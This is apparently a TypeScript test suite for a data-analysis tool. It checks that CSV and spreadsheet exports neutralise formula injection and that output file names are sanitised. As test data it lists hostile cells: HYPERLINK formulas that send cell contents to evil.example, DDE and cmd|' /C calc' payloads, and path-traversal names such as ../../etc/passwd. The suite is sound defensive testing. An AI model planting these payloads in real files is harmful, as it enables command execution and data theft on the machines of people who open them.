import { silentLogger } from '../common/logger.js';
import { conversationContext } from '../../test/helpers/conversation-context.js';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Analysis } from '../analysis/analysis.js';
import { analyze } from '../analysis/pipeline.js';
import { safeCell, toCsv } from '../data/csv-writer.js';
import { ingestBytes, ingestCsv } from '../data/ingest.js';
import { labelsCsv } from '../analysis/labels-csv.js';
import { workbookBytes } from '../../test/helpers/workbooks.js';
import { ask } from '../llm/ask.js';
import { runTool } from './registry.js';
import type { ToolSession } from './tool.js';
import { buildToolChart } from './charts-adapter.js';

/**
 * Exports open safely in a spreadsheet: no cell the file supplied can start a formula, whatever
 * the identifier, category or column name; file names are plain stems a file system cannot misread.
 */

const HOSTILE_IDS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=1+1',
  '+1',
  '-cmd',
  '@x',
  '"=quoted"',
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];
const HOSTILE_HEADER = '=cmd|" /C calc"!A0';
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?([eE][+-]?\d+)?$/;
const SAFE_FILE_NAME = /^[a-z0-9][a-z0-9._-]{0,99}$/;

let analysis: Analysis;
let session: ToolSession;

function hostileCsv(): string {
  const lines = [`customer,balance,"${HOSTILE_HEADER.replace(/"/g, '""')}",tier`];
  for (let i = 0; i < 30; i++) {
    const id = i < HOSTILE_IDS.length ? HOSTILE_IDS[i] : `=HYPERLINK("http://evil.example/${i}")`;
    const balance = i % 2 === 0 ? -(500 + i * 37) : 9_000 + i * 13;
    const tier = ['=2+5', '@gold', 'silver'][i % 3];
    lines.push([`"${id.replace(/"/g, '""')}"`, balance, (i * 7) % 11, tier].join(','));
  }
  return `${lines.join('\n')}\n`;
}

/** Every cell of a CSV the way a spreadsheet would read it. */
function cellsOf(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true, delimiter: ',', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function expectFormulaSafe(csv: string): number {
  let checked = 0;
  for (const row of cellsOf(csv)) {
    for (const cell of row) {
      checked++;
      if (FORMULA_START.test(cell)) expect(cell, `cell ${JSON.stringify(cell)}`).toMatch(PLAIN_NUMBER);
    }
  }
  return checked;
}

beforeAll(async () => {
  const table = ingestCsv(hostileCsv());
  expect(table.idColumn).toBe('customer');
  analysis = await analyze(table, { algorithm: 'kmeans', kRange: [2, 3], source: 'hostile.csv' });
  session = { analysis, settings: { k: null, algorithm: 'kmeans' }, reanalyze: () => Promise.resolve(analysis), charts: null, log: silentLogger };
});

describe('find_customers exports are formula-safe', () => {
  it('defuses every hostile identifier, category and column name, and keeps negative numbers numeric', async () => {
    const run = await runTool('find_customers', {}, session);
    const file = run.result.files[0];
    expect(file.mimeType).toBe('text/csv');
    const cells = cellsOf(file.content);
    expect(cells).toHaveLength(31);
    expect(expectFormulaSafe(file.content)).toBeGreaterThan(100);
    const ids = cells.slice(1).map((row) => row[0]);
    for (const id of HOSTILE_IDS) expect(ids).toContain(FORMULA_START.test(id) ? `'${id}` : id);
    // Negative balances are still numbers a spreadsheet can sum.
    const balanceColumn = cells[0].indexOf('balance');
    expect(cells.slice(1).some((row) => /^-\d+$/.test(row[balanceColumn]))).toBe(true);
    expect(cells[0]).toContain(`'${HOSTILE_HEADER}`);
  });

  it('the export asked for in words through ask() is the same safe file', async () => {
    const answer = await ask('export segment 1', conversationContext(analysis, { k: null, algorithm: 'kmeans' }), { llm: null, charts: null });
    expect(answer.files).toHaveLength(1);
    expectFormulaSafe(answer.files[0].content);
    expect(answer.files[0].fileName).toMatch(SAFE_FILE_NAME);
  });

  it('safeCell defuses each dangerous start, including tab and carriage return, and quotes separators', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const [, [read]] = cellsOf(toCsv(['x'], [[`${start}SUM(A1:A9)`]]));
      expect(read).toBe(`'${start}SUM(A1:A9)`);
      expect(safeCell(`${start}SUM(A1:A9)`)).toContain(`'${start}SUM`);
    }
    expect(safeCell(-12.5)).toBe('-12.5');
    expect(safeCell(Number.NaN)).toBe('');
    expect(safeCell('a,"b"\nc')).toBe('"a,""b""\nc"');
  });
});

describe('workbook exports are formula-safe', () => {
  it('formula cells and hostile cached text from an .xlsx never reach an export unescaped', async () => {
    const bytes = await workbookBytes((workbook) => {
      const sheet = workbook.addWorksheet('Customers');
      sheet.addRow(['customer', 'balance', 'visits', 'tier']);
      HOSTILE_IDS.forEach((id, i) => {
        // A live formula whose cached value is itself formula-like text, as a hostile workbook can hold.
        const tier = { formula: 'HYPERLINK("http://evil.example","x")', result: '=HYPERLINK("http://evil.example","x")' };
        sheet.addRow([id, 9_000 + i * 13 - (i % 2) * 20_000, (i * 7) % 11, i % 2 ? tier : '@gold']);
      });
    });
    const table = await ingestBytes(bytes);
    expect(table.rowIds).toEqual(HOSTILE_IDS);
    const workbookAnalysis = await analyze(table, { algorithm: 'kmeans', k: 2, source: 'hostile.xlsx' });
    expect(expectFormulaSafe(labelsCsv(workbookAnalysis))).toBeGreaterThan(HOSTILE_IDS.length);
    const run = await runTool('find_customers', {}, { ...session, analysis: workbookAnalysis, reanalyze: () => Promise.resolve(workbookAnalysis) });
    expect(expectFormulaSafe(run.result.files[0].content)).toBeGreaterThan(HOSTILE_IDS.length * 3);
  });
});

describe('file names are sanitised', () => {
  const hostileNames = ['../../etc/passwd', '..\\..\\windows\\system32', '.hidden', '\u202Eright-to-left\u2028line', `${'x'.repeat(500)}.csv`, 'CON', '💳 emoji / slash'];

  it('chart files from hostile feature names are plain bounded stems', () => {
    const charts = [
      buildToolChart('distribution', analysis, { feature: analysis.table.features[1] }),
      buildToolChart('ranking', analysis, { feature: analysis.table.features[1] }),
      buildToolChart('profile', analysis, {}),
    ];
    for (const chart of charts) expect(chart.fileName).toMatch(SAFE_FILE_NAME);
  });

  it.each(hostileNames)('a chart of a feature named %j gets a safe file name', async (name) => {
    const rows = Array.from({ length: 12 }, (_, i) => `${(i * 3) % 7},${(i * 7) % 5}`).join('\n');
    const table = ingestCsv(`a,"${name.replace(/"/g, '""')}"\n${rows}\n`);
    const small = await analyze(table, { algorithm: 'kmeans', kRange: [2, 3] });
    const chart = buildToolChart('distribution', small, { feature: small.table.features[1] });
    expect(small.table.features[1]).not.toBe('a');
    expect(chart.fileName).toMatch(SAFE_FILE_NAME);
    expect(chart.fileName).not.toMatch(/^[.-]|[/\\]|\.\./);
  });

  it('every file any tool returns has a safe name', async () => {
    const runs = await Promise.all([
      runTool('find_customers', { segment: 1 }, session),
      runTool('find_customers', { filters: [{ feature: 'balance', op: '<', value: 0 }] }, session),
      runTool('chart', { kind: 'distribution', feature: 'balance' }, { ...session, charts: buildToolChart }),
      runTool('chart', { kind: 'sizes' }, { ...session, charts: buildToolChart }),
    ]);
    const names = runs.flatMap((r) => [...r.result.files.map((f) => f.fileName), ...r.result.charts.map((c) => c.fileName)]);
    expect(names.length).toBeGreaterThanOrEqual(4);
    for (const name of names) expect(name).toMatch(SAFE_FILE_NAME);
  });
});
